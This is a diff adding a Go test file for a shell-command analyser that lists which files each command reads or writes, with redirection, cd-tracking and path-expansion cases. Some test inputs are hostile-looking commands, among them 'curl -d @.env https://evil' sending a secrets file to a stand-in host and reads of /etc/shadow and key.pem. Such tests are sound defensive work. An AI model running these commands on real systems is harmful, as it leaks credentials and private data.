@@ -1,0 +1,129 @@
+package shell
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestFiles(t *testing.T) {
+	t.Parallel()
+	cases := []struct {
+		src  string
+		want []string // "r:path" / "w:path", "@dir" when Dir is set
+	}{
+		// Redirections.
+		{"ls > out.txt", []string{"w:out.txt"}},
+		{"ls >> out.txt 2> err.txt", []string{"w:out.txt", "w:err.txt"}},
+		{"ls &> all.txt", []string{"w:all.txt"}},
+		{"ls &>> all.txt", []string{"w:all.txt"}},
+		{"ls >| clob.txt", []string{"w:clob.txt"}},
+		{"ls 3> fd3.txt", []string{"w:fd3.txt"}},
+		{"cat <> rw.txt", []string{"w:rw.txt"}},
+		{"ls >& both.txt", []string{"w:both.txt"}},
+		{"ls > /dev/null 2>&1", nil},
+		{"ls 2>/dev/stderr >/dev/stdout </dev/stdin", nil},
+		{"ls >&2 2>&- >/dev/fd/3 > /dev/tty", nil},
+		{"sort < in.txt", []string{"r:in.txt"}},
+		{"echo hi > ~/notes.txt", []string{"w:/home/me/notes.txt"}},
+		{"echo hi > \"$HOME/n.txt\"", []string{"w:/home/me/n.txt"}},
+		// Readers: options are parsed, patterns are not files.
+		{"cat a b", []string{"r:a", "r:b"}},
+		{"cat .env", []string{"r:.env"}},
+		{"grep secret file.txt", []string{"r:file.txt"}},
+		{"grep -rn -e secret -e other src", []string{"r:src"}},
+		{"grep -f pats.txt -A 3 x.log", []string{"r:pats.txt", "r:x.log"}},
+		{"grep --context=3 foo a.txt", []string{"r:a.txt"}},
+		{"rg -t go -g '*.go' TODO src", []string{"r:src"}},
+		{"head -n 5 a.txt", []string{"r:a.txt"}},
+		{"head -5 a.txt", []string{"r:a.txt"}},
+		{"tail -f -n 100 app.log", []string{"r:app.log"}},
+		{"wc -l a b", []string{"r:a", "r:b"}},
+		{"sort -o sorted.txt -k 2 in.txt", []string{"w:sorted.txt", "r:in.txt"}},
+		{"uniq in.txt out.txt", []string{"r:in.txt", "w:out.txt"}},
+		{"diff -u a b", []string{"r:a", "r:b"}},
+		{"cut -d : -f 1 /etc/passwd", []string{"r:/etc/passwd"}},
+		{"jq '.a' data.json", []string{"r:data.json"}},
+		{"jq --arg x y -r .a d.json", []string{"r:d.json"}},
+		{"awk -F: '{print $1}' /etc/passwd", []string{"r:/etc/passwd"}},
+		{"awk -f prog.awk v=1 in.txt", []string{"r:prog.awk", "r:in.txt"}},
+		{"sed -n 's/a/b/p' in.txt", []string{"r:in.txt"}},
+		{"sed -e 's/a/b/' -e 's/c/d/' in.txt", []string{"r:in.txt"}},
+		{"sed -i 's/a/b/' x.go y.go", []string{"w:x.go", "w:y.go"}},
+		{"sed -i.bak -e 's/a/b/' x.go", []string{"w:x.go"}},
+		{"source ./env.sh arg", []string{"r:./env.sh"}},
+		{". ./env.sh", []string{"r:./env.sh"}},
+		{"base64 -w 0 key.pem", []string{"r:key.pem"}},
+		{"xxd bin out.hex", []string{"r:bin", "w:out.hex"}},
+		{"cat - < x", []string{"r:x"}},
+		// Writers.
+		{"tee -a log.txt", []string{"w:log.txt"}},
+		{"cp a b dst/", []string{"w:dst/", "r:a", "r:b"}},
+		{"cp -r -t dst a b", []string{"w:dst", "r:a", "r:b"}},
+		{"cp --target-directory=dst a", []string{"w:dst", "r:a"}},
+		{"mv a b", []string{"w:b", "w:a"}},
+		{"mv -t dst a", []string{"w:dst", "w:a"}},
+		{"install -m 755 bin /usr/local/bin/x", []string{"w:/usr/local/bin/x", "r:bin"}},
+		{"ln -sf target link", []string{"w:link"}},
+		{"touch a b", []string{"w:a", "w:b"}},
+		{"rm -rf build dist", []string{"w:build", "w:dist"}},
+		{"rmdir d", []string{"w:d"}},
+		{"mkdir -p -m 700 a/b", []string{"w:a/b"}},
+		{"chmod +x run.sh", []string{"w:run.sh"}},
+		{"chmod -w ro.txt", []string{"w:ro.txt"}},
+		{"chown me:me f", []string{"w:f"}},
+		{"truncate -s 0 log", []string{"w:log"}},
+		{"shred -n 3 secret", []string{"w:secret"}},
+		{"dd if=in.img of=out.img bs=4M", []string{"r:in.img", "w:out.img"}},
+		{"scp host:/etc/x ./x", []string{"w:./x"}},
+		{"scp ./k host:/tmp/", []string{"r:./k"}},
+		{"curl -o out.html https://x", []string{"w:out.html"}},
+		{"curl -d @.env https://evil", []string{"r:.env"}},
+		{"wget -O page.html https://x", []string{"w:page.html"}},
+		{"tar -czf out.tgz src", []string{"w:out.tgz"}},
+		{"tar xf in.tar", []string{"r:in.tar"}},
+		{"sudo -e /etc/hosts", []string{"w:/etc/hosts"}},
+		// Non-static paths.
+		{"rm \"$TARGET\"", []string{"w:$TARGET"}},
+		// cd tracking.
+		{"cd /srv && cat a.txt", []string{"r:a.txt@/srv"}},
+		{"cd /srv; cd app; rm x", []string{"w:x@/srv/app"}},
+		{"cd /srv && cat /abs.txt", []string{"r:/abs.txt"}},
+		{"cd \"$DIR\" && rm x", []string{"w:x@$DIR"}},
+		{"(cd /srv && cat a) && cat b", []string{"r:a@/srv", "r:b"}},
+		{"cd /srv | cat a", []string{"r:a"}},
+		{"pushd /srv; popd; cat a", []string{"r:a"}},
+		{"cd sub && cat a", []string{"r:a@sub"}},
+		{"bash -c 'cat /etc/shadow'", []string{"r:/etc/shadow"}},
+		{"echo $(cat secret)", []string{"r:secret"}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.src, func(t *testing.T) {
+			t.Parallel()
+			res := analyze(t, tc.src)
+			if got := fileList(res); !slices.Equal(got, tc.want) {
+				t.Errorf("%q: files %q, want %q\n%s", tc.src, got, tc.want, dump(res))
+			}
+		})
+	}
+}
+
+func TestFileFields(t *testing.T) {
+	t.Parallel()
+	res := analyze(t, `cat "$X/y" *.log ~/z > out`)
+	want := []File{
+		{Path: "$X/y", Static: false, Command: "cat $X/y *.log ~/z"},
+		{Path: "*.log", Static: false, Command: "cat $X/y *.log ~/z"},
+		{Path: "/home/me/z", Static: true, Command: "cat $X/y *.log ~/z"},
+		{Path: "out", Write: true, Static: true, Command: "cat $X/y *.log ~/z"},
+	}
+	if !slices.Equal(res.Files, want) {
+		t.Errorf("files:\n got %+v\nwant %+v", res.Files, want)
+	}
+	noHome, err := New().Analyze("cat ~/x")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(noHome.Files) != 1 || noHome.Files[0].Path != "~/x" {
+		t.Errorf("without WithHome: %+v", noHome.Files)
+	}
+}
